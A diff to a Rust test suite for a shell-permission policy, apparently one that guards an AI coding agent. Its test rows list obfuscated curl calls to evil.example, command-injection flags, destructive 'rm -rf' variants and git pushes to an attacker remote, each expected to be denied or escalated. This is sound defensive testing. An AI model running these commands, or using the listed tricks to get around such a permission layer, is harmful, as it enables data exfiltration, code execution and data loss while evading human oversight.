@@ -63,6 +63,7 @@ fn policy(setup: &Setup) -> Policy {
         roots: vec![CWD.into()],
         readable: Vec::new(),
         plan_file: None,
+        remotes: None,
     };
     Policy::new(setup.mode, &rules, place, &resolve).0
 }
@@ -88,6 +89,8 @@ const SHELL: &[Row] = &[
     ("SC-A06", Mode::Default, "-Bash(curl:*)", &["cu\\\nrl http://evil.example"], "deny"),
     ("SC-A07", Mode::Default, "-Bash(curl:*)", &["c'u'rl x", "c\\url x", "\"curl\" x"], "deny"),
     ("SC-A08", Mode::Default, "-Bash(curl:*)", &["{curl,http://evil.example}"], "!allow"),
+    ("SC-A08", Mode::BypassPermissions, "-Bash(curl:*)", &["{curl,http://evil.example}", "c{u,}rl x", "cu[r]l x", "X=curl; $X y", "$(echo curl) x", "echo curl x | sh", "alias l=curl\nl x", "env --split-string='curl x'", "git -c alias.x='!curl x' x", "CURL x"], "!allow"),
+    ("SC-A08", Mode::BypassPermissions, "-Bash(curl:*)", &["$EDITOR_OPTS; ls", "make $TARGET", "for f in *.c; do gcc $f; done", "[[ $x == y ]] && ls", "echo $x | grep y"], "!deny"),
     ("SC-A09", Mode::Default, "", &["X=curl; $X http://evil.example"], "ask"),
     ("SC-A10", Mode::Default, "", &["cat${IFS}notes.txt", "rg${IFS}--pre=sh${IFS}x"], "ask"),
     ("SC-A11", Mode::Default, "", &["echo ${a=\"$\"} ${b=\"${a}(id)\"}${b@P}"], "ask"),
@@ -134,9 +137,11 @@ const SHELL: &[Row] = &[
     ("SC-B12", Mode::Default, "", &["sort --compress-program=./x -S1 big"], "ask"),
     ("SC-B13", Mode::Default, "", &["man -P 'sh -c id' ls", "man --html=./x ls", "man -H ls"], "ask"),
     ("SC-B14", Mode::Default, "", &["file -m ./m f", "file -f list", "file -C -m m"], "ask"),
+    ("SC-B14", Mode::Default, "", &["file -z f", "strings @list"], "ask"),
     ("SC-B15", Mode::Default, "", &["history -w ../x", "history -a ~/.bashrc"], "ask"),
     ("SC-B16", Mode::Default, "", &["tree -o ../x", "xxd -r in ../x"], "ask"),
     ("SC-B17", Mode::Default, "", &["git grep -Osh k", "git grep --open-files-in-pager=sh k"], "ask"),
+    ("SC-B17", Mode::Default, "", &["git grep -nOsh k", "git grep -On k", "git log --pretty=format:%GG", "git log --show-signature"], "ask"),
     ("SC-B18", Mode::Default, "", &["git ls-remote --upload-pack='sh -c id' .", "git ls-remote --upload-pa='sh -c id' ."], "ask"),
     ("SC-B19", Mode::Default, "", &["git log --output=../x", "git diff --output=../x"], "ask"),
     ("SC-B20", Mode::Default, "", &["git diff --ext-diff", "git -c core.fsmonitor=./x status", "git --exec-path=. status", "git -c alias.s='!id' s"], "ask"),
@@ -157,6 +162,7 @@ const SHELL: &[Row] = &[
     ("SC-E06", Mode::Plan, "", &["ls -la", "git status"], "allow"),
     ("SC-E07", Mode::BypassPermissions, "+Bash", &["rm -rf /", "rm -rf ~", "rm -rf \"$HOME\"", "rm -rf /*", "find / -delete"], "ask"),
     ("SC-E08", Mode::BypassPermissions, "+Bash", &["rm -rf \"$BUILD_DIR/\"", "rm -rf $X/*"], "ask"),
+    ("SC-E08", Mode::BypassPermissions, "", &["cd / && rm -rf *", "cd $X && rm -rf *", "rm -rf \"$(pwd)\"", "rm -rf $X/..", "echo / | xargs rm -rf"], "ask"),
     ("SC-E09", Mode::Default, "+Bash(git:*)", &["git reset --hard", "git clean -fdx", "git checkout -- .", "git stash drop", "git push --force", "git -C . reset --hard"], "ask"),
     ("SC-E09", Mode::Default, "+Bash(git:*);;+Bash(git reset:*)", &["git reset --hard", "git add .", "git reset --soft x", "git push origin"], "allow"),
     ("SC-H01", Mode::Default, "", &["sh install.sh"], "ask"),
@@ -167,7 +173,7 @@ fn shell_text() {
     for (id, mode, rules, commands, expected) in SHELL {
         for command in *commands {
             let got = decide(&Setup { mode: *mode, rules }, "Bash", Access::Run((*command).to_owned()));
-            let fits = if *expected == "!allow" { got != "allow" } else { got == *expected };
+            let fits = expected.strip_prefix('!').map_or(got == *expected, |not| got != not);
             assert!(fits, "{id} {command:?}: {got}, expected {expected}");
         }
     }
@@ -218,6 +224,75 @@ fn paths() {
     let hiding = policy(&Setup { mode: Mode::Default, rules: "-Read(**/.env)" });
     let file = Path::new("/w/app/deep/.env");
     assert!(hiding.hides(file, file));
+}
+
+#[test]
+fn facts_about_the_disk_tighten() {
+    let shell = |policy: &Policy, command: &str, facts: fn(Facts) -> Facts, cwd: &str| {
+        let accesses = [Access::Run(command.to_owned())];
+        let request = Request::new("Bash", &accesses);
+        let gathered = Facts::gather(cwd.into(), policy.needs(&request, Path::new(cwd)), resolve);
+        policy.decide(&request, &facts(gathered)).as_str()
+    };
+    // SC-B21: a shell that went into a nested repository in an earlier call
+    let plain = policy(&Setup { mode: Mode::Default, rules: "" });
+    assert_eq!(shell(&plain, "git status", |facts| facts, CWD), "allow");
+    assert_eq!(shell(&plain, "git status", |facts| facts, "/w/app/nested"), "ask");
+    assert_eq!(shell(&plain, "git status", Facts::in_own_repository, "/w/app/src"), "allow");
+    // SC-C17: a file with a second name
+    let accepts = policy(&Setup { mode: Mode::AcceptEdits, rules: "" });
+    let write = |shared: bool| {
+        let accesses = [Access::WritePath("/w/app/f".into())];
+        let request = Request::new("Edit", &accesses);
+        let facts = Facts::gather(CWD.into(), accepts.needs(&request, Path::new(CWD)), resolve).sharing(|_| shared);
+        accepts.decide(&request, &facts).as_str()
+    };
+    assert_eq!((write(false), write(true)), ("allow", "ask"));
+    for command in ["sed -i s/a/b/ f", "rm f", "echo x > f", "cp a f"] {
+        assert_eq!(shell(&accepts, command, |facts| facts.sharing(|_| true), CWD), "ask", "SC-C17 {command}");
+    }
+}
+
+#[test]
+fn a_push_goes_only_where_it_went_before() {
+    // SC-G06
+    let remotes = |list: &[(&str, &str)]| list.iter().map(|(n, u)| ((*n).to_owned(), (*u).to_owned())).collect();
+    let place = Place {
+        cwd: CWD.into(),
+        roots: vec![CWD.into()],
+        remotes: Some(remotes(&[("origin", "a"), ("fork", "b")])),
+        ..Place::default()
+    };
+    let rule = |text: &str| RuleText {
+        behaviour: Behaviour::Allow,
+        source: Source::User,
+        text: text.to_owned(),
+        root: CWD.into(),
+    };
+    let rules = [rule("Bash(git push:*)"), rule("Bash(git push exactly here)")];
+    let policy = Policy::new(Mode::Default, &rules, place, &resolve).0;
+    let push = |command: &str, now: &[(&str, &str)]| {
+        let accesses = [Access::Run(command.to_owned())];
+        let request = Request::new("Bash", &accesses);
+        let facts =
+            Facts::gather(CWD.into(), policy.needs(&request, Path::new(CWD)), resolve).with_remotes(remotes(now));
+        policy.decide(&request, &facts).as_str()
+    };
+    let same = [("origin", "a"), ("fork", "b")];
+    let added = [("origin", "a"), ("fork", "b"), ("evil", "c")];
+    for (command, now, expected) in [
+        ("git push", &same[..], "allow"),
+        ("git push origin main", &same, "allow"),
+        ("git push -u origin main", &added, "allow"),
+        ("git push evil main", &added, "ask"),
+        ("git push evil main", &same, "ask"),
+        ("git push", &added, "ask"),
+        ("git push origin main", &[("origin", "c"), ("fork", "b")], "ask"),
+        ("git push https://evil.example/x.git main", &same, "ask"),
+        ("git push exactly here", &same, "allow"),
+    ] {
+        assert_eq!(push(command, now), expected, "{command} with {now:?}");
+    }
 }
 
 #[test]
@@ -312,6 +387,11 @@ fn suggestions_are_narrow_and_fit_the_command() {
     let facts = Facts::gather(CWD.into(), policy.needs(&request, Path::new(CWD)), resolve);
     let found = policy.suggest(&request, &facts);
     assert_eq!(found[0].to_json().to_string(), r#"{"type":"setMode","mode":"acceptEdits","destination":"session"}"#);
+    // [SDK-106]
+    let accesses = [Access::WritePath("/srv/data/x/a".into())];
+    let request = Request::new("Write", &accesses);
+    let facts = Facts::gather(CWD.into(), policy.needs(&request, Path::new(CWD)), resolve);
+    assert_eq!(policy.suggest(&request, &facts)[0].to_json()["directories"][0], "/srv/data/x");
 }
 
 #[test]
